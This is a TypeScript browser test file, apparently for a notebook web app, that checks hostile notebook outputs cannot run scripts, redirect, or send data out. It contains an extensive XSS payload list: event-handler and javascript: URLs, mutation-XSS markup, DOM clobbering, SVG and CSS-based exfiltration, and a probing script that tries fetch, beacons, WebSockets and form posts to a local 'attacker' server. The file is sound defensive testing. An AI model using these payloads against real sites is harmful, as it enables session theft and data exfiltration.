// Notebooks that attack whoever opens them. Nothing of theirs may run, leave its place
// or send anything anywhere.

import fs from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, BrowserContextOptions, Frame, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { cell, code, display, loaded, markdown, notebook, output, run, stage, stream, type Cell } from "./harness";

const s = stage();

// A server of the attacker, which notes who comes.
const visits: string[] = [];
let lure = "";
const attacker = http.createServer((q, a) => {
  visits.push(`${q.method} ${q.url}`);
  a.setHeader("Access-Control-Allow-Origin", "*");
  a.end("parent.pwned = 'from elsewhere'; window.pwned = 'from elsewhere'");
});
attacker.on("upgrade", (q, socket) => {
  visits.push(`websocket ${q.url}`);
  socket.destroy();
});
beforeAll(async () => {
  await new Promise<void>((r) => attacker.listen(0, "127.0.0.1", r));
  lure = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
afterAll(() => {
  attacker.closeAllConnections();
  attacker.close();
});
beforeEach(() => {
  visits.length = 0; // once the pages of the test before are closed, which may still fetch
});

/** Notes the requests of a context: those that leave the server, and those that change something. */
function watch(c: BrowserContext): { left: string[]; changed: string[] } {
  const seen = { left: [] as string[], changed: [] as string[] };
  const own = new URL(s.server.url).host;
  const look = (address: string, method = "GET") => {
    const u = new URL(address);
    if (!["data:", "blob:", "about:"].includes(u.protocol) && u.host !== own) seen.left.push(address);
    else if (method !== "GET") seen.changed.push(`${method} ${u.pathname}`);
  };
  // What the page's policy refuses never leaves the browser.
  c.on("requestfinished", (r) => look(r.url(), r.method()));
  c.on("requestfailed", (r) => r.failure()?.errorText !== "csp" && look(r.url(), r.method()));
  const sockets = (p: Page) => p.on("websocket", (w) => w.on("framereceived", () => look(w.url())));
  c.pages().forEach(sockets);
  c.on("page", sockets);
  return seen;
}

interface Attack {
  what: string;
  html?: string;
  data?: Record<string, unknown>;
}

const attacks = (): Attack[] => [
  { what: "a script", html: `<b>shown</b><script>window.pwned = 1</script>` },
  { what: "a script of elsewhere", html: `<b>shown</b><script src="${lure}/script.js"></script>` },
  { what: "event handlers", html: `<b>shown</b><img src="x" onerror="window.pwned=1"><svg onload="window.pwned=1"></svg><details open ontoggle="window.pwned=1">d</details><style onload="window.pwned=1"></style>` },
  { what: "handlers that wait for the mouse", html: `<b onmouseover="window.pwned=1" onclick="window.pwned=1">shown</b>` },
  { what: "addresses that are scripts", html: `<a href="javascript:window.pwned=1">shown</a><a href="&#106;avascript:window.pwned=1">shown</a><a href="java\nscript:window.pwned=1">shown</a><a href="data:text/html,<script>1</script>">shown</a>` },
  { what: "a script in SVG", data: { "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" onload="window.pwned=1"><script>window.pwned=1</script><foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="window.pwned=1"><iframe src="${lure}/foreign"></iframe></body></foreignObject><a href="javascript:window.pwned=1"><text y="20">shown</text></a><animate attributeName="href" values="javascript:window.pwned=1"/><use href="${lure}/use.svg#a"/><image href="${lure}/image.png"/></svg>` } },
  { what: "frames and objects", html: `<b>shown</b><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe><iframe src="${lure}/frame"></iframe><object data="${lure}/object"></object><embed src="${lure}/embed"><frameset><frame src="${lure}/f"></frameset>` },
  { what: "style that covers the page", html: `<b>shown</b><style>:host, * { position: fixed !important; inset: 0 !important; z-index: 2147483647 !important; width: 100vw; height: 100vh; background: red } body { visibility: hidden } .app { display: none !important }</style><div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div>` },
  { what: "style that fetches", html: `<b style="background:url(${lure}/inline.png)">shown</b><style>@import "${lure}/import.css"; b { background: url("${lure}/style.png") } @font-face { font-family: x; src: url("${lure}/font.woff2") } b { font-family: x }</style><link rel="stylesheet" href="${lure}/link.css"><link rel="prefetch" href="${lure}/prefetch"><link rel="preload" as="image" href="${lure}/preload">` },
  { what: "pictures and media of elsewhere", html: `<b>shown</b><img src="${lure}/pixel.png"><img srcset="${lure}/set.png 2x"><picture><source srcset="${lure}/source.png"></picture><video src="${lure}/v.mp4" poster="${lure}/poster.png" autoplay></video><audio src="${lure}/a.mp3" autoplay></audio><input type="image" src="${lure}/input.png"><table background="${lure}/table.png"></table>` },
  { what: "a page that sends elsewhere", html: `<b>shown</b><meta http-equiv="refresh" content="0;url=${lure}/refresh"><base href="${lure}/"><meta http-equiv="Content-Security-Policy" content="default-src *">` },
  { what: "forms", html: `<b>shown</b><form action="${lure}/form" method="post"><input name="a" value="b" autofocus onfocus="this.form.submit()"><button>send</button></form><form id="f" action="/api/shutdown" method="post"></form><button form="f">shown too</button>` },
  { what: "names that take the place of the page's own", html: `<b>shown</b><form id="app" name="body"><input name="attributes"><input name="childNodes"></form><img name="getElementById"><a id="location" href="x">x</a><a id="notebook">x</a><a id="defaultView" name="cookie">y</a>` },
  { what: "markup that parsers read differently", html: `<b>shown</b><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript><svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">` },
  { what: "a template with a shadow root", html: `<b>shown</b><div><template shadowrootmode="open"><script>window.pwned=1</script><slot></slot></template></div><x-y is="z" slot="a">shown</x-y>` },
  { what: "JavaScript as a type of output", data: { "application/javascript": "window.pwned = 1; fetch('/api/shutdown', {method: 'POST'})" } },
  { what: "Markdown", data: { "text/markdown": `shown <script>window.pwned=1</script><img src=x onerror=window.pwned=1> [x](javascript:window.pwned=1) <iframe src="${lure}/m"></iframe>` } },
  { what: "LaTeX", data: { "text/latex": `shown $\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{${lure}/latex.png}$ $\\htmlData{a=b}{y}$` } },
  { what: "JSON", data: { "application/json": { "<img src=x onerror=window.pwned=1>": "<script>window.pwned=1</script>", __proto__: { polluted: 1 } } } },
  { what: "a picture whose bytes are markup", data: { "image/png": `"><script>window.pwned=1</script>`, "text/plain": `"><img src=x onerror=window.pwned=1>` } },
];

/** That the page is as the user left it, and nothing has run. */
async function unharmed(page: Page): Promise<void> {
  expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned)).toBeUndefined();
  expect(await page.evaluate(() => ({}) as { polluted?: unknown }).then((o) => o.polluted)).toBeUndefined();
  expect(page.url().startsWith(s.server.url + "/notebooks/")).toBe(true);
  // What the user presses is on top where it stands, and does what it is for.
  for (const name of ["Restart the kernel", "Notebook menu", "Parallel"]) {
    const button = page.getByRole("button", { name, exact: true });
    expect(await button.evaluate((b) => {
      const r = b.getBoundingClientRect();
      return b.contains(document.elementFromPoint(r.x + r.width / 2, r.y + r.height / 2));
    }), name).toBe(true);
  }
  await page.getByRole("button", { name: "Notebook menu" }).click();
  await page.getByRole("menuitem", { name: "Keys" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Close" }).click();
}

/** Opens a notebook in which nothing was made here. */
async function openHostile(cells: Cell[], options: BrowserContextOptions = {}): Promise<{ page: Page; seen: ReturnType<typeof watch> }> {
  const c = await s.context(options);
  const seen = watch(c);
  const page = await c.newPage();
  await page.goto(`${s.server.url}/?token=${s.server.token}`);
  const name = `hostile-${Math.random().toString(36).slice(2)}.ipynb`;
  fs.writeFileSync(`${s.server.root}/${name}`, JSON.stringify(notebook(cells)));
  seen.changed.length = 0;
  await page.goto(`${s.server.url}/notebooks/${name}`);
  await loaded(page);
  return { page, seen };
}

/** Waits until what the page has set off is under way: a round trip of its own comes after it. */
async function settled(page: Page): Promise<void> {
  await page.evaluate(async () => {
    await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
    await (await fetch("/api/status")).text();
  });
}

/** Forgets that the browser told of what the policy of the page refused. */
function refused(): void {
  const others = s.troubles.filter((t) => !/Content Security Policy|sandboxed/.test(t));
  s.troubles.splice(0, Infinity, ...others);
}

test("nothing in the outputs of a notebook from elsewhere runs or sends anything", async () => {
  const list = attacks();
  const { page, seen } = await openHostile(list.map(asCell));
  await tryAll(page, list, (a) => {
    expect(seen.left, a.what).toEqual([]);
    expect(visits, a.what).toEqual([]);
  });
  await unharmed(page);
  expect(seen.changed).toEqual([]);
  expect(page.frames()).toHaveLength(1); // none was made for what is not trusted
  await page.getByText("This notebook was not made here").waitFor();
  refused();
});

test("nothing of it runs even where the browser does not enforce the page's policy", async () => {
  const list = attacks();
  const { page, seen } = await openHostile(list.map(asCell), { bypassCSP: true });
  await tryAll(page, list, () => {});
  await unharmed(page);
  expect(seen.changed).toEqual([]);
  expect(page.frames()).toHaveLength(1);
  s.troubles.length = 0; // pictures of elsewhere that cannot be read
});

const asCell = (a: Attack) => code(`// ${a.what}`, [display(a.data ?? { "text/html": a.html })]);

/** Brings each attack to the screen, and presses what is left of it. */
async function tryAll(page: Page, list: Attack[], check: (a: Attack) => void): Promise<void> {
  for (const [i, a] of list.entries()) {
    await cell(page, i + 1).scrollIntoViewIfNeeded();
    await output(page, i + 1).waitFor({ state: "attached" });
    await settled(page);
    check(a);
    for (const shown of await output(page, i + 1).getByText("shown").all()) {
      if (await shown.isVisible()) await shown.click({ timeout: 1_000, noWaitAfter: true }).catch(() => {}); // a picture may lie over it
    }
    expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned), a.what).toBeUndefined();
  }
  await page.evaluate(() => scrollTo(0, 0));
}

test("a picture of it in the parallel panel keeps its style and its names to itself", async () => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" id="app" width="200" height="40" onload="window.pwned=1"><style>* { visibility: hidden !important } body, .banners { background: rgb(255, 0, 0) !important }</style><text y="20" style="visibility:visible">workers</text><image href="${lure}/image.png"/></svg>`;
  const { page, seen } = await openHostile([code("1", [display({ "image/svg+xml": svg })])]);
  await page.getByRole("button", { name: "Parallel" }).click();
  const picture = page.locator(".thumbnail-picture img");
  await picture.waitFor();
  expect(await picture.evaluate((i: HTMLImageElement) => i.decode().then(() => i.naturalWidth))).toBe(200);
  expect(await page.locator(".panel style").count()).toBe(0);
  expect(await page.evaluate(() => [document.body, document.querySelector(".banners")!].map((e) => getComputedStyle(e).backgroundColor))).not.toContain("rgb(255, 0, 0)");
  expect(await page.evaluate(() => document.getElementById("app")!.localName)).toBe("div");
  await unharmed(page);
  expect([seen.left, visits]).toEqual([[], []]);
  refused();
});

test("nor in its text, errors, Markdown cells, names or metadata", async () => {
  const text = "\u001b]8;;javascript:window.pwned=1\u0007click\u001b]8;;\u0007 <img src=x onerror=window.pwned=1> \u001b[31mred\u001b[0m";
  const { page, seen } = await openHostile([
    markdown(`# Title <img src=x onerror="window.pwned=1">\n<script>window.pwned=1</script>\n[link](javascript:window.pwned=1) <style>body{display:none}</style>\n<form action="${lure}/f"><input autofocus></form>\n<div style="position:fixed;inset:0;background:red;z-index:9999">cover</div> <a id=app name=location>clobber</a>\n<meta http-equiv=refresh content="0;url=${lure}/r">\n\n$\\href{javascript:window.pwned=1}{x}$\n\n![x](x" onerror="window.pwned=1)`),
    code("1", [
      stream(text),
      { output_type: "error", ename: "<img src=x onerror=window.pwned=1>", evalue: "<script>window.pwned=1</script>", traceback: ["<img src=x onerror=window.pwned=1>", "In[1]:1:1: <b>x"] },
    ]),
  ]);
  await output(page, 2).getByText("red").waitFor();
  await page.locator(".toc a").first().waitFor();
  await settled(page);
  await unharmed(page);
  for (const a of await page.locator(".cell a").all()) expect((await a.getAttribute("href")) ?? "").not.toMatch(/^\s*(javascript|data):/i);
  expect(seen.left).toEqual([]);
  expect(seen.changed).toEqual([]);
  expect(visits).toEqual([]);
  refused(); // the cleaner's own parser, in which nothing runs, asks the policy too
});

/** Go that shows HTML. */
const shows = (html: string) => code(`type page string\nfunc (p page) HTML() string { return string(p) }\npage(${"`" + html + "`"})`);

const tries = () => `<p id="out">waiting</p><script>
const can = async (name, f) => { try { const v = await f(); return name + ":" + (v === undefined ? "yes" : v) } catch (e) { return name + ":no" } };
(async () => {
  const all = [
    await can("origin", () => self.origin),
    await can("parent", () => parent.document.title),
    await can("top", () => top.location.href),
    await can("leave", () => { top.location.href = "${"LURE"}/top" }),
    await can("cookie", () => document.cookie),
    await can("storage", () => localStorage.length),
    await can("server", () => fetch("/api/contents").then((r) => r.status)),
    await can("elsewhere", () => fetch("${"LURE"}/fetch", { mode: "no-cors" }).then(() => "sent")),
    await can("beacon", () => { if (!navigator.sendBeacon("${"LURE"}/beacon", "x")) throw 1; return "queued" }),
    await can("socket", () => new Promise((r, f) => { const w = new WebSocket("ws" + "${"LURE"}".slice(4)); w.onopen = () => r("open"); w.onerror = f })),
    await can("own socket", () => new Promise((r, f) => { const w = new WebSocket("ws://" + "${"OWN"}" + "/api/fanout/room?path=a.ipynb"); w.onopen = () => r("open"); w.onerror = f })),
    await can("picture", () => new Promise((r, f) => { const i = new Image(); i.onload = () => r("loaded"); i.onerror = f; i.src = "${"LURE"}/p.png" })),
    await can("popup", () => { if (!open("${"LURE"}/popup")) throw 1; return "opened" }),
    await can("form", () => new Promise((r, f) => { const x = document.createElement("form"); x.action = "${"LURE"}/form"; x.method = "post"; document.body.append(x); x.submit(); setTimeout(f, 0) })),
  ];
  document.getElementById("out").textContent = all.join("\\n");
})();
</script>`;

const frameOf = async (page: Page): Promise<Frame> => (await (await page.waitForSelector("iframe.sandbox")).contentFrame())!;

test("a script that was run here runs in a frame that reaches neither the page, nor the server, nor others", async () => {
  const html = tries().replaceAll("LURE", lure).replaceAll("OWN", new URL(s.server.url).host).replaceAll("`", "'");
  const mine = await s.notebook([shows(html)]);
  const own = watch(mine.context());
  await run(mine, 1);
  const frame = await frameOf(mine);
  const out = frame.locator("#out");
  await expect.poll(() => out.textContent()).toContain("form:");
  const said = (await out.textContent())!.split("\n");
  expect(said[0]).toBe("origin:null");
  const reached = said.slice(1).filter((l) => !l.endsWith(":no"));
  // A beacon may be queued, and is then refused by the policy: nobody gets it.
  expect(reached.filter((l) => l !== "beacon:queued")).toEqual([]);
  await settled(mine);
  refused();
  expect(visits).toEqual([]);
  expect(own.left).toEqual([]);
  expect(mine.context().pages()).toHaveLength(1);
  expect(mine.url()).toContain("/notebooks/");
  expect(await mine.locator("iframe.sandbox").getAttribute("sandbox")).toBe("allow-scripts");
  expect(await mine.evaluate(() => (document.querySelector("iframe.sandbox") as HTMLIFrameElement).contentDocument)).toBeNull();
});

test("what a script shows is still there when its cell is moved, also where a moved frame is loaded again", async () => {
  const page = await s.notebook([shows(`<p id="out">waiting</p><script>document.getElementById("out").textContent = "drawn"</script>`), code("2")]);
  await page.addInitScript(() => delete (Element.prototype as { moveBefore?: unknown }).moveBefore); // as older browsers
  await page.reload();
  await loaded(page);
  await run(page, 1);
  const drawn = () => page.frameLocator("iframe.sandbox").locator("#out").textContent();
  await expect.poll(drawn).toBe("drawn");
  await page.keyboard.press("Escape");
  for (const [key, n] of [["Alt+ArrowDown", 2], ["Alt+ArrowUp", 1]] as const) {
    await page.keyboard.press(key);
    await cell(page, n).and(page.locator("#cell-c1")).waitFor();
    await expect.poll(drawn).toBe("drawn");
  }
});

test("what a frame says is not listened to, but for its height, which is bounded", async () => {
  const page = await s.notebook([
    shows(`<p id="out">x</p><script>for (const m of [{height: 1e9}, {height: -5}, {html: "<b>"}, {ready: 1}, "s", null, {op: "run"}, {ev: "room"}]) parent.postMessage(m, "*"); parent.postMessage({height: 1e9}, "*"); document.getElementById("out").textContent = "said"</script>`),
  ]);
  await run(page, 1);
  const frame = await frameOf(page);
  await expect.poll(() => frame.locator("#out").textContent()).toBe("said");
  await expect.poll(async () => (await page.locator("iframe.sandbox").boundingBox())!.height).toBeLessThan(4_100);
  await cell(page, 1).waitFor();
});

test("a notebook from elsewhere runs its scripts in the frame once it is trusted, and not before", async () => {
  const { page, seen } = await openHostile([code("1", [display({ "text/html": `<p id="out">still</p><script>document.getElementById("out").textContent = "ran, " + self.origin; try { parent.pwned = 1 } catch {}</script>` })])]);
  await output(page, 1).getByText("still").waitFor();
  expect(await page.locator("iframe").count()).toBe(0);
  await page.getByRole("button", { name: "Trust this notebook" }).click();
  const frame = await frameOf(page);
  await expect.poll(() => frame.locator("#out").textContent()).toBe("ran, null");
  await settled(page);
  await unharmed(page);
  expect(seen.left).toEqual([]);
});

test("files of the folder are served so that nothing in them runs with the rights of the page", async () => {
  fs.writeFileSync(`${s.server.root}/evil.html`, `<script>document.title = "ran " + origin; fetch("/api/contents")</script><p>evil`);
  fs.writeFileSync(`${s.server.root}/evil.svg`, `<svg xmlns="http://www.w3.org/2000/svg" onload="document.documentElement.setAttribute('ran', origin)"><text y="20">evil</text></svg>`);
  const page = await s.open("/");
  const seen = watch(page.context());
  await page.goto(s.server.url + "/files/evil.html");
  await page.getByText("evil").waitFor();
  expect(await page.title()).not.toContain("ran");
  await page.goto(s.server.url + "/files/evil.svg");
  expect(await page.locator("svg").getAttribute("ran")).toBeNull();
  expect(seen.left).toEqual([]);
  refused();
});
